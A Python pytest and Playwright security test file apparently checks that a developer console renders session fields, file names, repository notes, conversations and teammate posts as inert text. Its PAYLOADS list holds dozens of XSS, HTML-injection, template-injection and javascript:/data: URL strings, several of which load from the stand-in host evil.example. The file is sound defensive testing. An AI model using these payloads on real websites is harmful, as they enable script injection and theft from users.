"""TS15: whatever is stored is shown as text. No script runs, nothing is fetched, no link leads
anywhere it may not.

Payloads go through every field that the console shows: names, labels, metadata, events of
every kind with their parts, what code sees in them, context sets, an applet's parameters, a file's
name and its content; what is noted in a repository: claims, decisions, summaries, the names of
branches, files and authors, what a proof printed, what a diff shows; and conversations that came
with a repository: everything in both of their files; and what teammates published, reserved and
offered, also past the rules for it. Then a real Chromium opens the pages, unfolds
all of them, and is asked what it made of them.
"""

import hashlib
import json
import os
import re
import shlex
import uuid
from collections.abc import Callable, Iterator
from functools import partial
from itertools import cycle
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from holdfast.app import App
from holdfast.ground import ids
from holdfast.ground.fence import clean
from holdfast.ground.settings import Owner
from holdfast.ground.text import term_safe
from holdfast.sessions import rules
from holdfast.sessions.service import SessionService
from holdfast.surfaces.console import markdown
from holdfast.team.model import Publication
from holdfast.team.store import TeamStore
from holdfast.workstreams.service import WorkstreamService
from tests.surfaces.console import noting
from tests.surfaces.console.browsing import DEVELOPER, Console
from tests.surfaces.console.conftest import browser, console, opened, root, server, window
from tests.surfaces.console.story import (
    make_edit,
    make_request,
    make_result,
    make_run,
    with_sessions,
)
from tests.surfaces.console.teaming import act_as, become, settings_as
from tests.surfaces.http.server import Server
from tests.workstreams.repos import Repo

__all__ = ["browser", "console", "root", "server", "window"]

SET = "window.canary=1"
PAYLOADS = [
    f"<script>{SET}</script>",
    f"</title><script>{SET}</script>",
    f"</textarea><script>{SET}</script>",
    f"</script><script>{SET}</script>",
    f"</pre></code><script>{SET}</script>",
    f"<ScRiPt>{SET}</sCrIpT>",
    f"<script\x0c>{SET}</script>",
    "<script src=http://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={SET}>",
    f'"><img src=x onerror="{SET}">',
    f"'><img src=x onerror='{SET}'>",
    "<img src=http://evil.example/pixel.png>",
    f"<svg onload={SET}>",
    f"<svg><script>{SET}</script></svg>",
    f"<svg><animate onbegin={SET} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{SET}"><text>x</text></a></svg>',
    f"<math><mi//xlink:href='data:x,<script>{SET}</script>'>",
    f"<body onload={SET}>",
    f"<details open ontoggle={SET}>",
    f"<input autofocus onfocus={SET}>",
    f"<video><source onerror={SET}></video>",
    "<iframe srcdoc='<script>parent.canary=1</script>'>",
    "<iframe src=javascript:parent.canary=1>",
    "<iframe src=http://evil.example/>",
    "<object data=http://evil.example/x></object>",
    "<embed src=http://evil.example/x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
    '<div style="background:url(http://evil.example/b.png);position:fixed;inset:0">x</div>',
    f"javascript:{SET}",
    f"JaVaScRiPt:{SET}",
    f" javascript:{SET}",
    f"javascript://example.com/%0a{SET}",
    f"data:text/html,<script>{SET}</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2FuYXJ5PTE8L3NjcmlwdD4=",
    f"vbscript:{SET}",
    "http://evil.example@127.0.0.1/",
    "http://127.0.0.1:9/plain",
    "file:/etc/passwd",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in [1,2] %}loop{% endfor %}",
    '<div hx-get="http://evil.example/" hx-trigger="load">x</div>',
    '<div hx-get="/console/strip" hx-trigger="load" hx-on:htmx:load="window.canary=1">x</div>',
    '" hx-get="http://evil.example/" hx-trigger="load" x="',
    f'" onmouseover="{SET}" autofocus onfocus="{SET}" x="',
    f"' onmouseover='{SET}' x='",
    f"` onmouseover={SET} `",
    '<div sse-connect="http://evil.example/">x</div>',
    f"&lt;script&gt;{SET}&lt;/script&gt;",
    f"&#60;script&#62;{SET}&#60;/script&#62;",
    f"%3Cscript%3E{SET}%3C/script%3E",
    f"\\u003cscript\\u003e{SET}\\u003c/script\\u003e",
    f"<!--><script>{SET}</script-->",
    f"]]><script>{SET}</script>",
    f"<noscript><p title='</noscript><script>{SET}</script>'>",
    f"<template><script>{SET}</script></template>",
    f"<a href='javascript:{SET}' autofocus>click</a>",
    f"[click](javascript:{SET})",
    f"<x tabindex=1 onfocus={SET} autofocus>",
    "invoice\u202efdp.exe",
    "zero\u200bwidth\u2060\ufeff joiner\u200d",
    "\U000e0069\U000e0067 tags",
    "\u2066isolate\u2069 \u061c",
    "\x1b[2J\x1b]0;owned\x07",
    "W" * 390,
    "<" * 200,
    '"' * 200,
    "🏴‍☠️ <b>bold</b> &amp; ©",
]
PREFIXES = (
    "",
    '">',
    "'>",
    "</span>",
    "</a>",
    "-->",
    "</details></section>",
    "x\n",
    "&quot;>",
    "*/",
    "</svg>",
    '\\">',
)
SEEN_PARTS = ["Checks", "Said", "To do", "Edited", "Commits"]
TOGETHER = 4  # payloads in one session, and in one diff
LAYOUT = (
    "article aside body dialog div figure footer form head header html li link main meta nav "
    "noscript ol p section title ul"
)
TEXT = (
    "a b button code dd details dl dt figcaption h1 h2 h3 h4 i kbd pre q script span summary "
    "textarea time"
)
FORM = "input label output"
TAGS = {*LAYOUT.split(), *TEXT.split(), *FORM.split(), "svg", "path", "polygon", "rect"}
TAGS |= markdown.TAGS
SEEN_BY_BROWSER = """() => ({
  canary: window.canary,
  tags: [...new Set([...document.querySelectorAll('*')].map((one) => one.tagName.toLowerCase()))],
  handlers: [...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()
    .filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc'
        || name === 'formaction')),
  links: [...document.querySelectorAll('[href]')].filter((one) => one.closest('body'))
    .map((one) => [one.getAttribute('href'),
        new URL(one.getAttribute('href'), document.baseURI).href, one.rel || '']),
  scripts: [...document.querySelectorAll('script')]
    .map((one) => one.getAttribute('src') || 'inline'),
  fetches: [...document.querySelectorAll('*')].flatMap((one) =>
    ['hx-get', 'hx-post', 'sse-connect', 'action', 'src']
      .filter((name) => one.hasAttribute(name) && one.tagName !== 'SCRIPT')
      .map((name) => one.getAttribute(name))),
  text: document.body.textContent
    + [...document.querySelectorAll('textarea')].map((one) => one.value).join(''),
})"""


def payloads(count: int) -> list[str]:
    """Each as it is, then each behind something that may close what it stands in."""
    return [prefix + payload for prefix in PREFIXES for payload in PAYLOADS][:count]


def as_label(payload: str) -> str:
    """As much of it as a short field takes: one line, 400 bytes."""
    text = "".join(character for character in payload if character not in rules._CONTROL)
    return text.encode()[: rules.LABEL_BYTES].decode(errors="ignore") or "x"


async def store(sessions: SessionService, number: int, some: list[str]) -> str:
    """A session that is nothing but payloads: its labels take turns, the rest has all of them."""
    turns = cycle(map(as_label, some[number % len(some) :] + some[: number % len(some)]))
    session = await sessions.create_session(
        next(turns),
        next(turns),
        next(turns),
        next(turns),
        next(turns),
        name=next(turns),
        client=next(turns),
        native_id=next(turns),
        repo=next(turns),
        worktree=next(turns),
    )
    hints = {"currentIntent": next(turns), "envHint": next(turns)}
    await sessions.update_metadata(session.id, hints)
    for payload in some:
        await sessions.append_events(session.id, [*events_with(payload), *seen_with(payload)])
    labels = [as_label(payload) for payload in some]
    for name in ("files", "endpoints", "ports", *labels):
        await sessions.set_relevant_context(session.id, name, labels)
    label = next(turns)
    await sessions.set_relevant_context(
        session.id, "applet", [label, f"path=/r/{label}"[:1900], f"{label}={label}"]
    )
    return session.id


def events_with(payload: str) -> list[dict[str, Any]]:
    """An event of every kind, with everything that its tool may have been given."""
    inputs: list[Any] = [
        payload,
        {"command": payload},
        {"file_path": payload},
        {payload: payload, "path": payload},
    ]
    return [
        {
            "type": kind,
            "role": role,
            "content": payload,
            "parts": {"tool": payload, "input": given, payload: payload},
        }
        for kind, role in zip(rules.EVENT_TYPES, ("user", "assistant", *["tool"] * 5), strict=True)
        for given in inputs
    ]


def seen_with(payload: str) -> list[dict[str, Any]]:
    """What code sees by itself: a failing check, words of the user, todos, a file, a commit."""
    line = as_label(payload)
    answers = json.dumps({"answers": {line: line}})
    todos = {"todos": [{"content": payload, "status": "pending"}]}
    return [
        make_request(f"Do not use 5 workers here: {line}"),
        make_edit(payload),
        make_run(f"pytest -q {shlex.quote(line)}", f"E   {line}", 1),
        make_run(f"git commit -m {shlex.quote(line)}", f"[main {sha256_hex(line)[:7]}] {line}"),
        make_result("AskUserQuestion", {}, answers),
        make_result("TodoWrite", todos, "ok"),
    ]


def sha256_hex(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


OURS = ("/console/", "/sessions", "/conversations", "/workstreams", "/api/events", "/logout")


def check(page: Page, some: list[str], where: str) -> None:
    """The page is one of ours, and each of these payloads is shown on it as text."""
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
    page.evaluate(
        "document.querySelectorAll('a, summary, button').forEach((one) => { one.focus() })"
    )
    found = page.evaluate(SEEN_BY_BROWSER)
    about = f"{where}: {some!r}"

    assert found["canary"] is None, about
    assert set(found["tags"]) <= TAGS, (about, set(found["tags"]) - TAGS)
    assert found["handlers"] == [], about
    assert all(src.startswith("/static/") for src in found["scripts"]), about
    assert all(url.startswith(OURS) for url in found["fetches"]), about
    for given, resolved, rel in found["links"]:
        assert urlsplit(resolved).scheme in ("http", "https"), (about, given)
        if not given.startswith(("/", "#")):
            assert given.startswith(("http://", "https://")), (about, given)
            assert "@" not in urlsplit(given).netloc, (about, given)
            assert rel == "noopener noreferrer", (about, given)
        else:
            assert not given.startswith("//"), (about, given)
    shown = "".join(found["text"].split())
    for payload in some:
        first = next(iter(payload.split()))[:60]
        assert term_safe(first) in shown or first in shown, (where, payload)


@pytest.fixture
def hostile_file(console: Console) -> Iterator[Callable[[int, str], str]]:
    """A file whose name and content are the payload, as far as a name may be."""

    def make(number: int, payload: str) -> str:
        name = as_label(payload).replace("/", "∕").encode()[:180].decode(errors="ignore")
        path = console.root / f"{number} {name}"
        path.write_text(payload, newline="")
        return str(path)

    yield make
    for entry in os.scandir(console.root):
        Path(entry.path).unlink()


def test_no_stored_text_is_ever_more_than_text(console: Console, scale: Callable[[int], int]):
    """In every field of a session, and in the list beside it."""
    every = payloads(max(len(PAYLOADS), scale(800)))

    groups = [every[start : start + TOGETHER] for start in range(0, len(every), TOGETHER)]

    async def fill(sessions: SessionService) -> list[str]:
        return [await store(sessions, number, some) for number, some in enumerate(groups)]

    for some, session_id in zip(groups, with_sessions(console.settings, fill), strict=True):
        page = console.open(f"/sessions/{session_id}")
        check(page, some, "session")
        assert page.locator("#seen dt").all_inner_texts() == SEEN_PARTS, some
    check(console.open("/sessions"), every[-1:], "list")
    assert {urlsplit(url).netloc for url in console.requests} == {
        urlsplit(console.server.url).netloc
    }


def test_no_file_and_no_event_is_ever_more_than_text(
    console: Console, hostile_file: Callable[[int, str], str]
):
    """All of them together, on the pages that show one thing whole."""
    everything = "\n".join(PAYLOADS)
    path = hostile_file(0, everything)

    async def fill(sessions: SessionService) -> str:
        session = await sessions.create_session("architect", "u1")
        parts = {"tool": everything, everything: everything}
        await sessions.append_event(session.id, "tool_result", "tool", everything, parts)
        return session.id

    session_id = with_sessions(console.settings, fill)
    editor = f"/?applet=text-editor&path={quote(path)}&session={session_id}"
    applet = quote(everything[:4000])
    for url in (
        f"/console/sessions/{session_id}/events/1",
        editor,
        f"{editor}&edit=1",
        f"/?applet={applet}&path={applet}&session={applet}",
    ):
        check(console.open(url), PAYLOADS[:30], url[:30])


def test_no_name_of_a_file_is_ever_more_than_a_name(
    console: Console, hostile_file: Callable[[int, str], str], scale: Callable[[int], int]
):
    for number, payload in enumerate(PAYLOADS[:: len(PAYLOADS) // scale(len(PAYLOADS)) or 1]):
        path = hostile_file(number, payload)
        for url in (
            f"/?applet=text-editor&path={quote(path)}",
            f"/?applet=text-editor&path={quote(path)}&edit=1",
        ):
            check(console.open(url), [payload], "file")


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:24]))
def test_no_address_is_ever_more_than_an_address(server: Server, payload: str):
    """What a foreign page may make a user open: each answer is a page of ours, with the policy on
    it.
    """
    with server.client() as api:
        for path in (
            f"/sessions/{quote(payload, safe='')}",
            f"/sessions?older={quote(payload)}",
            f"/?applet=text-editor&path={quote(payload)}",
            f"/?applet={quote(payload)}",
            f"/console/sessions?selected={quote(payload)[:90]}",
            f"/?applet=git-diff&path={quote(payload)}",
            f"/?applet=git-diff&path=x&since={quote(payload)}",
            f"/conversations?q={quote(payload)}",
            f"/conversations?older={quote(payload)}",
            f"/conversations?status={quote(payload)}",
            f"/conversations/2026-01-01/{quote(payload, safe='')}",
            f"/console/conversations?q={quote(payload)}&selected={quote(payload)[:90]}&at=detail",
            f"/workstreams?workstream={quote(payload)}",
            f"/workstreams?phase={quote(payload)}",
            f"/coordination?repo={quote(payload)[:300]}",
            f"/coordination?person={quote(payload)[:300]}",
            f"/coordination?opened={quote(payload)[:90]}",
            f"/console/coordination?repo={quote(payload)[:300]}&seen={quote(payload)[:20]}",
            f"/console/coordination/contexts/{quote(payload, safe='')}/x",
        ):
            answer = api.get(path)
            assert answer.status_code in (200, 400, 404, 422), (path, answer.text)
            assert "default-src 'self'" in answer.headers["content-security-policy"]
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert payload not in answer.text or "<" not in payload.replace("<!", "")


def test_a_context_change_that_arrives_live_is_only_text(console: Console):
    session_id = console.start_session()
    page = console.open_live(f"/sessions/{session_id}")

    for payload in PAYLOADS[:12]:
        console.set_context(session_id, "files", [as_label(payload)])
        page.wait_for_function(
            "(text) => document.querySelector('#card').textContent.includes(text)",
            arg=term_safe(as_label(payload)),
        )
        check(page, [as_label(payload)], "live card")


# --- what is noted in a repository ----------------------------------------------------------------


@pytest.fixture(scope="module")
def noted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Repo]]:
    """A repository and its server; each test works on a branch of its own."""
    home = tmp_path_factory.mktemp("served")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))  # no settings of the person who runs the tests
        repo = noting.with_code(tmp_path_factory.mktemp("noted") / "payouts")
    with noting.serving(home, repo.folder) as running:
        yield running, repo


@pytest.fixture
def noted_console(
    noted: tuple[Server, Repo], browser: Browser, window: dict[str, Any]
) -> Iterator[tuple[Console, Repo]]:
    running, repo = noted
    for shown in opened(browser, running, repo.folder, window):
        yield shown, repo


def as_branch(payload: str) -> str:
    """As much of it as git takes for the name of a branch."""
    return (
        re.sub(r"[\x00-\x20\x7f~^:?*\[\\]|\.\.|@\{|//+|/\.|\.$|/$|^/", "", payload)[:60].strip("./")
        or "x"
    )


async def fill_notes(workstreams: WorkstreamService, some: list[str], paths: list[str]) -> None:
    """Every field of a workstream is nothing but payloads."""
    for payload, path in zip(some, paths, strict=True):
        await workstreams.claim(
            payload, [path, "src/retry.py#schedule"], kind="statement"
        )  # some say "fixed"
        await workstreams.decide(payload, status="rejected", because=payload)
    await workstreams.set_checklist(some)
    await workstreams.prove(["cat", paths[-1]])
    proof = await workstreams.prove(["sh", "-c", f": {some[0]!r}"])
    await workstreams.claim("with a proof", [f"proof:{proof.id}"])
    everything = "\n".join(some)[:7_900]
    await workstreams.save(everything, by_hand=True, feature_request=some[0][:190])
    await workstreams.fail(step=some[0], error=everything[:3_900], next_action=some[-1])


def hostile_files(repo: Repo, some: list[str]) -> list[str]:
    paths = []
    for number, payload in enumerate(some):
        name = (
            re.sub(r"[\x00-\x1f\\]", "", as_label(payload))
            .replace("/", "∕")
            .encode()[:150]
            .decode(errors="ignore")
        )
        paths.append(f"{number} {name}".rstrip())
        repo.write(paths[-1], payload + "\n")
    return paths


def test_nothing_that_is_noted_in_a_repository_is_ever_more_than_text(
    noted_console: tuple[Console, Repo], scale: Callable[[int], int]
):
    """Fresh, then stale with every file changed, then the diffs."""
    console, repo = noted_console
    every = payloads(max(len(PAYLOADS), scale(800)))
    for start in range(0, len(every), 30):
        some = every[start : start + 30]
        noting.on_own_branch(repo, f"{start}-{as_branch(some[0])}")
        paths = hostile_files(repo, some)
        repo.commit(some[0])
        fill = partial(fill_notes, some=some, paths=paths)
        noting.note(console.settings, repo, fill)
        for change in ("", "changed\n"):
            for path in paths:
                repo.write(path, change + (repo.folder / path).read_text())
            author = re.sub(r"[<>\n]", "", some[0])
            repo.git(
                "commit", "-qam", "more", "--allow-empty", f"--author=x {author} <x@example.org>"
            )
            check(console.open("/workstreams"), some, "workstreams")
        for first in range(0, len(some), TOGETHER):
            lines = some[first : first + TOGETHER]
            repo.write(paths[first], "\nanother ".join([*lines, ""]))
            check(console.open(f"/?applet=git-diff&path={quote(paths[first])}"), lines, "diff")
    assert {urlsplit(url).netloc for url in console.requests} == {
        urlsplit(console.server.url).netloc
    }


@pytest.mark.parametrize("payload", PAYLOADS[::6], ids=lambda payload: ascii(payload[:24]))
def test_no_branch_is_ever_more_than_a_name(noted_console: tuple[Console, Repo], payload: str):
    console, repo = noted_console
    noting.on_own_branch(repo, as_branch(payload))

    check(console.open("/workstreams"), [as_branch(payload)], "branch")


# --- conversations --------------------------------------------------------------------------------


def write_conversation(repo: Repo, number: int, payload: str) -> str:
    """As anyone who may write into a repository can: everything in its files is the payload."""
    id_ = f"2026-01-05/{number:03}-debug-x"
    config = {"command": payload, "model": payload, "tools": [payload]}
    metadata = {
        "title": payload,
        "status": "paused",
        "client": payload,
        "context_summary": payload,
        "agent_config": config,
        "files": [payload],
        "git_head": payload,
        "session_id": payload,
        "last_active": "2026-01-05T10:00:00Z",
        "created_at": payload,
    }
    messages = [
        {"id": f"{number}-{role}", "role": role, "content": payload, "client": payload}
        for role in ("user", "assistant")
    ]
    lines = [json.dumps({**each, "timestamp": "2026-01-05T10:00:00Z"}) for each in messages]
    repo.write(f"conversations/{id_}/.session/session.json", json.dumps(metadata))
    repo.write(f"conversations/{id_}/.session/messages.jsonl", "\n".join([*lines, ""]))
    return id_


def squeeze(text: str) -> str:
    """Without the marks that begin each line of what others have said."""
    return "".join(term_safe(text).replace("|", " ").split())


def test_no_conversation_is_ever_more_than_text(
    noted_console: tuple[Console, Repo], scale: Callable[[int], int]
):
    """On its card, found by a search, and as the block that an agent would read."""
    console, repo = noted_console
    every = payloads(max(len(PAYLOADS), scale(300)))
    for start in range(0, len(every), 30):
        some = every[start : start + 30]
        noting.on_own_branch(repo, f"talks-{start}")
        ids = [write_conversation(repo, number, each) for number, each in enumerate(some, 1)]
        check(console.open("/conversations"), some, "conversations")
        for payload, id_ in zip(some, ids, strict=True):
            page = console.open(f"/conversations/{id_}?q={quote(payload[:300])}")
            check(page, [payload], "conversation")
            block = page.locator("#block").evaluate("(block) => block.textContent")
            assert squeeze(clean(payload)) in squeeze(block), payload
    assert {urlsplit(url).netloc for url in console.requests} == {
        urlsplit(console.server.url).netloc
    }


def test_no_answer_is_ever_more_than_the_markdown_of_ours(
    console: Console, scale: Callable[[int], int]
):
    """Between marks and inside of links, tables, lists and code, where a renderer might slip."""
    every = payloads(max(len(PAYLOADS), scale(300)))
    frames = ["{}", "**{}**", "# {}", "- {}", "> {}", "`{}`", "```{}\n{}", "|{}|\n|-|\n|{}|"]
    frames += ["[{}](http://127.0.0.1:9/x)", "[x]({})", "![{}]({})", "<http://127.0.0.1:9/{}>"]

    async def fill(sessions: SessionService, some: list[str]) -> str:
        session = await sessions.create_session("architect", "u1")
        for payload in some:
            written = "\n\n".join(frame.replace("{}", payload) for frame in frames)
            await sessions.append_event(session.id, "model_message", "assistant", written)
        return session.id

    for start in range(0, len(every), 10):
        some = every[start : start + 10]
        session_id = with_sessions(console.settings, partial(fill, some=some))
        check(console.open(f"/sessions/{session_id}"), some, "answers")
        check(console.open(f"/console/sessions/{session_id}/events/1"), some[:1], "answer")


# --- what teammates wrote -------------------------------------------------------------------------


async def write_as_teammate(store: TeamStore, payload: str, to: str) -> str:
    """Everything that a program could store which does not look at it."""
    await store.enter(as_label(payload), "public")
    texts = [payload]
    publication = Publication(
        title=payload,
        summary=payload,
        files_touched=texts,
        next_actions=texts,
        blockers=texts,
        task_ids=texts,
        repo=payload,
        branch=payload,
    )
    published = await store.publish(ids.new_id(), publication)
    assert published
    claim = ids.new_id()
    place: dict[str, Any] = {"repo": payload, "branch": payload}
    await store.reserve(claim, texts, payload, 60, session_id=None, **place)
    await store.offer(ids.new_id(), claim, to, payload)
    await store.show_presence(ids.new_id(), texts, client=payload, **place)
    return published.id


def test_nothing_that_teammates_wrote_is_ever_more_than_text(
    console: Console, scale: Callable[[int], int]
):
    """As rows, unfolded, beside them and as what waits; one group after the other becomes
    private.
    """
    every = payloads(max(len(PAYLOADS), scale(300)))
    me = settings_as(console.server, DEVELOPER).owner
    become(console.server, DEVELOPER, "public")

    def teammate(app: App, number: int) -> TeamStore:
        return TeamStore(app.database, Owner(me.workspace_id, str(uuid.UUID(int=number))))

    async def write_group(app: App, some: list[str], start: int) -> list[str]:
        for number in range(max(start - 10, 0), start):
            await teammate(app, number).set_visibility("private")
        return [
            await write_as_teammate(teammate(app, number), payload, me.developer_id)
            for number, payload in enumerate(some, start)
        ]

    for start in range(0, len(every), 10):
        some = every[start : start + 10]
        written = act_as(console.server, DEVELOPER, partial(write_group, some=some, start=start))
        page = console.open("/coordination?" + urlencode([("opened", id_) for id_ in written]))
        expect(page.locator(".context-detail .plain")).to_have_count(len(some))
        check(page, some, "coordination")
        assert page.locator(".item").count() == len(some)
    assert {urlsplit(url).netloc for url in console.requests} == {
        urlsplit(console.server.url).netloc
    }
